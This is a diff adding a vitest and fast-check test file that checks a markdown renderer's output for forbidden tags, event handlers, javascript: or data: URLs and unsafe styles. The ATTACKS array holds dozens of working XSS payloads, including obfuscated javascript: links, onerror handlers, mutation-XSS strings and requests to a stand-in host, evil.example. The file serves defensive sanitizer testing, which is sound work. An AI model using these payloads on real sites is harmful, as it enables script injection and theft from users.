@@ -1,0 +1,112 @@
+import fc from 'fast-check';
+import type { Element, Root } from 'hast';
+import { fromHtml } from 'hast-util-from-html';
+import { describe, expect, it } from 'vitest';
+import { render } from './render.ts';
+
+const FORBIDDEN = new Set(
+  'script iframe object embed form style link meta base button textarea select option template frame frameset svg applet audio video source'.split(
+    ' ',
+  ),
+);
+const URLS = ['href', 'src', 'action', 'formAction', 'xLinkHref', 'poster', 'data', 'srcSet', 'background'];
+
+/** Shiki's colours, and the colour of maths that cannot be read. */
+const STYLES =
+  /^((--shiki-[a-z-]+|color):#?\w+;?|--shiki-[a-z]+-(font-style|font-weight|text-decoration):[\w-]+;?|text-align:\w+;?)*$/;
+
+/** Everything in an article that could run, ask or take over. */
+function dangers(parent: Root | Element): string[] {
+  return parent.children.flatMap((node) => {
+    if (node.type !== 'element') return [];
+    const found: string[] = FORBIDDEN.has(node.tagName) ? [`<${node.tagName}>`] : [];
+    for (const [name, value] of Object.entries(node.properties)) {
+      if (/^on/i.test(name)) found.push(name);
+      const url = String(value).replace(/[\s\p{Cc}]/gu, '');
+      if (URLS.includes(name) && /^(javascript|vbscript|data|file|blob):/i.test(url)) found.push(`${name}=${url}`);
+      if (name === 'style' && !STYLES.test(String(value))) found.push(`style=${value}`);
+      if (name === 'id' && !/^(h-|user-content-fn|footnote-label$)/.test(String(value))) found.push(`id=${value}`);
+    }
+    return [...found, ...dangers(node)];
+  });
+}
+const dangersOf = async (markdown: string) => dangers(fromHtml(await render(markdown), { fragment: true }));
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" ONERROR="alert(1)" />',
+  '<img/src/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=a><button>go</button></form>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JAVASCRIPT:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](<javascript:alert(1)>)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '<javascript:alert(1)>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<p style="position:fixed;inset:0">over all</p>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<div id="boot">{}</div>',
+  '<img name="getElementById" id="main">',
+  '<details ontoggle=alert(1) open><summary>x</summary></details>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<!--><script>alert(1)</script>-->',
+  '`</code><script>alert(1)</script>`',
+  '```html"><img src=x onerror=alert(1)>\nx\n```',
+  '```js title="\\"><script>alert(1)</script>"\nx\n```',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$\\includegraphics{https://evil.example/x.png}$',
+  '$\\htmlData{x=y}{z}$ $\\style{position:fixed}{x}$',
+  '# <img src=x onerror=alert(1)>',
+  '[^1]\n\n[^1]: <script>alert(1)</script>',
+  '| <img src=x onerror=alert(1)> |\n|-|\n| <script>1</script> |',
+  '> [!NOTE]\n> <script>alert(1)</script>',
+];
+
+describe('an article never holds anything that runs', () => {
+  it.each(ATTACKS)('%s', async (attack) => {
+    expect(await dangersOf(attack)).toEqual([]);
+  });
+
+  it('whatever is put together', async () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...ATTACKS),
+      fc.string({ maxLength: 30 }),
+      fc.constantFrom('\n\n', '> ', '- ', '`', '**', '| '),
+    );
+    const text = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
+    await fc.assert(
+      fc.asyncProperty(text, async (markdown) => {
+        expect(await dangersOf(markdown)).toEqual([]);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
